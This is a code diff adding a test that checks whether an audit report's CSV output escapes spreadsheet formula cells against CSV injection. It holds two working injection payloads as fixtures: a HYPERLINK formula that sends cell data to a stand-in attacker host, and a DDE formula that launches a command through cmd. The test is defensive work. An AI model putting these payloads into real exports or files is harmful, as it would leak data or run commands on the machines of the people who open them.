@@ -18,7 +18,7 @@ from bench.audit_generate import generate
 from gateway.audit import EventLine, SpoolSink
 from spark_audit import job
 from spark_audit.cli import add_audit_commands
-from spark_audit.event import AuditEvent
+from spark_audit.event import AuditEvent, ConfigChange
 from spark_audit.report import build_report
 from spark_audit.transforms import table_schema
 from tests.spark.support import EXPECTED_TOTALS, event, report_events, write_segment
@@ -391,3 +391,57 @@ def test_each_batch_logs_its_progress(
     assert batches[0].startswith("audit batch 0: 3 lines read, 0 malformed, 0 duplicate, 3 rows")
     assert batches[1].startswith("audit batch 1: 1 lines read, 0 malformed, 1 duplicate, 0 rows")
     assert len(list(dirs["table"].glob("date=*/*.parquet"))) == 1  # one file for the date
+
+
+FORMULA_CLIENT = '=HYPERLINK("http://attacker.example/?"&A2,"details")'
+FORMULA_USER = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_report_csv_files_hold_client_text_a_spreadsheet_cannot_run(
+    spark: SparkSession, dirs: dict[str, Path]
+) -> None:
+    """Client ids, claimed user names and config values are the clients' text: in every CSV
+    file a cell a spreadsheet would run as a formula starts with an apostrophe (CSV
+    injection), numbers stay numbers, and summary.json keeps the values as recorded."""
+    change = ConfigChange(name="retention.ms", before="-1", after="+1+cmd")
+    write_segment(
+        dirs["spool"],
+        [
+            event(request_id="a", client_id=FORMULA_CLIENT, resource_name="orders"),
+            event(
+                request_id="b",
+                principal=None,
+                client_id="-2+3",
+                api="SaslAuthenticate",
+                action="authenticate",
+                resource_type="user",
+                resource_name=FORMULA_USER,
+                policy="broker",
+                error_code=58,
+            ),
+            event(
+                request_id="c",
+                api="IncrementalAlterConfigs",
+                action="alter_config",
+                resource_name="orders",
+                config_changes=(change,),
+            ),
+        ],
+    )
+
+    summary = build_report(spark, str(dirs["spool"]), dirs["report"])
+
+    def cells(name: str) -> set[str]:
+        with (dirs["report"] / name).open(newline="") as file:
+            return {cell for row in csv.reader(file) for cell in row}
+
+    denied_events = cells("events-denied.csv")
+    assert "'" + FORMULA_CLIENT in denied_events and FORMULA_CLIENT not in denied_events
+    assert "'" + FORMULA_USER in denied_events and FORMULA_USER not in denied_events
+    assert "'-2+3" in denied_events and "-2+3" not in denied_events
+    assert "'" + FORMULA_CLIENT in cells("denied_by_client_id.csv")
+    assert "'" + FORMULA_CLIENT in cells("denied_requests.csv")
+    changes = cells("config_changes.csv")
+    assert "-1" in changes and "'+1+cmd" in changes and "+1+cmd" not in changes
+    by_client = {row["client_id"] for row in summary["reports"]["denied_by_client_id"]}
+    assert FORMULA_CLIENT in by_client
